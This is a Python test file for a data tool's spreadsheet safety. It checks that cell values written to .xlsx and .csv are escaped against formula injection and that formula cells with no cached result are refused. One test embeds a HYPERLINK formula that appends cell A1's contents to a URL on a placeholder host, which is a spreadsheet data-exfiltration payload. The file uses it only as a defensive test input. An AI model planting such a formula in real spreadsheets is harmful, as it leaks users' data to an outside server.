"""Spreadsheet safety: nothing hlwjr writes to .xlsx/.csv runs as a formula (OWASP CSV injection),
files it writes round-trip, and a formula cell without a stored result is refused with its cell,
never read as empty."""

from __future__ import annotations

import io
import json
import re
import shutil
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from validate_helpers import SPEC_DIR, doctor

from hlwjr import SourceError, cli
from hlwjr._sheets import FORMULA_TRIGGERS, defuse, defuse_frame, excel_writer, uncached_formulas, undo_defuse
from hlwjr.mapping._codemaps import CodeMap, load_code_map
from hlwjr.sources._read import read_source

risky_text = st.builds(lambda t, rest: t + rest, st.sampled_from(FORMULA_TRIGGERS + ("'", "'=", "''+")), st.text())


def run(argv) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = cli.run(cli.parse_args(argv), out, err)
    return code, out.getvalue(), err.getvalue()


@given(st.one_of(st.text(), risky_text))
def test_defuse_is_undone_exactly_and_never_leaves_a_trigger_first(value):
    safe = defuse(value)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert undo_defuse(safe) == value


@settings(max_examples=25, deadline=None)
@given(
    st.lists(
        risky_text.filter(lambda s: "\x00" not in s and not re.search(r"[\x01-\x08\x0b\x0c\x0e-\x1f]", s)),
        min_size=1,
        max_size=5,
    )
)
def test_xlsx_cells_that_look_like_formulas_are_stored_as_text(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("x") / "r.xlsx"
    with excel_writer(path) as xw:
        pd.DataFrame({"值": values}).to_excel(xw, sheet_name="s", index=False)
    ws = openpyxl.load_workbook(path).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == values
    assert not uncached_formulas(path)


def test_validate_report_writes_a_hyperlink_value_as_text(tmp_path):
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
    f = tmp_path / "d.jsonl"
    f.write_text(json.dumps(doctor(sex=evil), ensure_ascii=False) + "\n", encoding="utf-8")
    code, _, err = run(
        ["validate", "-d", "doctor", str(f), "--spec", str(SPEC_DIR), "--report", str(tmp_path / "r.xlsx")]
    )
    assert code == 1, err
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == evil for c in cells)  # shown exactly, as text


@settings(max_examples=20, deadline=None)
@given(
    st.lists(
        st.tuples(
            risky_text.filter(lambda s: s.strip() == s and s and "\x00" not in s and "\r" not in s and "\n" not in s),
            st.sampled_from(["1", "2", "9"]),
        ),
        min_size=1,
        max_size=6,
        unique_by=lambda t: t[0],
    )
)
def test_code_maps_with_risky_local_values_round_trip(tmp_path_factory, pairs):
    path = tmp_path_factory.mktemp("cm") / "sex.csv"
    cm = CodeMap(name="sex", entries=pd.DataFrame([{"local": a, "code": b} for a, b in pairs]))
    cm.save(path)
    raw = path.read_text(encoding="utf-8-sig")
    # rows end at \n only (a spreadsheet does not break a row at \x0c or \u2028, str.splitlines does)
    assert not any(line.startswith(FORMULA_TRIGGERS) for line in raw.split("\n")[1:])
    back = load_code_map(path)
    assert dict(zip(back.entries["local"], back.entries["code"])) == dict(pairs)


def test_map_issues_csv_is_defused():
    frame = pd.DataFrame({"value": ["=1+1", "@SUM(A1)", "-3", "正常", None], "row": [1, 2, 3, 4, 5]})
    out = defuse_frame(frame)
    assert out["value"].tolist()[:4] == ["'=1+1", "'@SUM(A1)", "'-3", "正常"]
    assert out["row"].tolist() == [1, 2, 3, 4, 5]


# ----------------------------------------------------------------------------- formulas in


def _workbook_with_formula(path, *, cached: str | None):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "处方"
    ws.append(["bussID", "price"])
    ws.append(["RX1", 12.5])
    ws.append(["RX2", "=10*3"])
    wb.save(path)
    if cached is not None:  # what Excel stores: the formula and its last result
        tmp = path.with_suffix(".tmp")
        with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w") as zout:
            for item in zin.infolist():
                data = zin.read(item.filename)
                if item.filename.startswith("xl/worksheets/"):
                    data = data.replace(b"<v></v>", f"<v>{cached}</v>".encode()).replace(
                        b"<v />", f"<v>{cached}</v>".encode()
                    )
                zout.writestr(item, data)
        shutil.move(tmp, path)
    return path


def test_formula_without_result_is_refused_with_its_cell(tmp_path):
    path = _workbook_with_formula(tmp_path / "rx.xlsx", cached=None)
    assert uncached_formulas(path) == ["处方!B3"]
    with pytest.raises(SourceError, match=r"公式单元格没有计算结果（处方!B3）") as info:
        read_source(path)
    assert "打开并保存" in info.value.message


def test_formula_with_a_stored_result_reads_the_result(tmp_path):
    path = _workbook_with_formula(tmp_path / "rx.xlsx", cached="30")
    assert uncached_formulas(path) == []
    frame = read_source(path)
    assert [str(v) for v in frame["price"]] == ["12.5", "30"]


def test_validate_refuses_a_formula_without_result(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    d = doctor()
    ws.append(list(d))
    ws.append([("=1+1" if k == "doctorYears" else v) for k, v in d.items()])
    wb.save(tmp_path / "d.xlsx")
    code, out, err = run(["validate", "-d", "doctor", str(tmp_path / "d.xlsx"), "--spec", str(SPEC_DIR)])
    assert code == 1 and "公式单元格没有计算结果（Sheet!I2）" in err and "Traceback" not in err + out
